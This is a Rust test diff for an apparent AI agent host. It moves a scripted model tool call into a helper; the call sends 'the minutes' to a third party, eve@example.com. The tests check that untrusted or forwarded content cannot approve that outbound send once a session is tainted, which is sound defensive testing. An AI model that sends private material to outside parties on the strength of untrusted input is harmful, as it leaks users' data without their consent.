@@ -466,11 +466,7 @@ async fn strangers_and_members_are_answered_as_untrusted_content_and_cannot_appr
     const ADMIN: i64 = 8888;
     let f = fixture();
     let model = ScriptedModel::start([
-        Step::tool_call(
-            "c1",
-            "send_message",
-            r#"{"destination":"eve@example.com","text":"the minutes"}"#,
-        ),
+        send_the_minutes_to_eve(),
         Step::text("Asked the owner."),
         Step::text("Hello, member."),
     ])
@@ -603,6 +599,15 @@ async fn strangers_and_members_are_answered_as_untrusted_content_and_cannot_appr
     assert!(kinds(&f, "channel-message-dropped").is_empty());
     drop(host);
     assert!(verify(&f.home).status.success());
+}
+
+/// The model's call that sends the minutes to eve@example.com, a third party.
+fn send_the_minutes_to_eve() -> Step {
+    Step::tool_call(
+        "c1",
+        "send_message",
+        r#"{"destination":"eve@example.com","text":"the minutes"}"#,
+    )
 }
 
 /// A model that writes a note, reads it back (which taints the session) and then wants
@@ -987,16 +992,9 @@ async fn an_admins_press_counts_where_the_holding_policy_names_admins() {
     const MEMBER: i64 = 7777;
     const ADMIN: i64 = 8888;
     let f = fixture();
-    let model = ScriptedModel::start([
-        Step::tool_call(
-            "c1",
-            "send_message",
-            r#"{"destination":"eve@example.com","text":"the minutes"}"#,
-        ),
-        Step::text("Sent."),
-    ])
-    .await
-    .unwrap();
+    let model = ScriptedModel::start([send_the_minutes_to_eve(), Step::text("Sent.")])
+        .await
+        .unwrap();
     let (fake, code) = configure(&f, &model, &["--unknown-senders", "untrusted"]);
     // The operator lets admins answer what `default.message.untraced-after-taint` holds.
     let dir = f.home.join("config/policy/default");
@@ -1513,11 +1511,7 @@ async fn a_message_the_owner_forwards_is_someone_elses_words() {
     const ORIGIN: i64 = 9999;
     let f = fixture();
     let model = ScriptedModel::start([
-        Step::tool_call(
-            "c1",
-            "send_message",
-            r#"{"destination":"eve@example.com","text":"the minutes"}"#,
-        ),
+        send_the_minutes_to_eve(),
         Step::text("Asked the owner."),
         Step::text("That was a forward."),
     ])
